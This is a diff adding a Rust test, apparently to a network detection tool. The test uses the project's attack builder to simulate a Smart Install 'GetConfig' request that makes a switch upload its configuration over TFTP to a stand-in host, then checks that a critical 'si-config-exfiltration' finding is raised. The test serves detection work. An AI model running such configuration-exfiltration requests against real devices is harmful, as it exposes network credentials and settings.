@@ -388,3 +388,30 @@ fn a_dropped_syn_is_an_unanswered_attempt() {
     assert_eq!((switch.accepted, switch.unanswered), (1, 1));
     assert_eq!(switch.role, "client");
 }
+
+#[test]
+fn an_ipv6_exfiltration_is_tied_to_the_server_its_url_names() {
+    let mut k = Knowledge::none();
+    k.add_directors(&AddrSet(vec!["2001:db8::1/128".parse().unwrap()]));
+    let mut feed = Feed::new(k);
+    let params = Params {
+        tftp_host: "[2001:db8::66]".into(),
+        target_name: "2001:db8::2".into(),
+        file: None,
+    };
+    let get_config = attack::build(Mode::GetConfig, &params).unwrap().segments;
+    feed.connection("[2001:db8::66]:40000", "[2001:db8::2]:4786", &get_config, &[]);
+    feed.tftp(
+        "[2001:db8::2]:51000",
+        "[2001:db8::66]:69",
+        &wrq("2001:db8::2.conf"),
+    );
+    let report = feed.report();
+    let exfil = report
+        .findings
+        .iter()
+        .find(|f| f.rule == "si-config-exfiltration")
+        .unwrap();
+    assert_eq!(exfil.facts["named_in_message"], true);
+    assert_eq!(exfil.severity, Severity::Critical);
+}
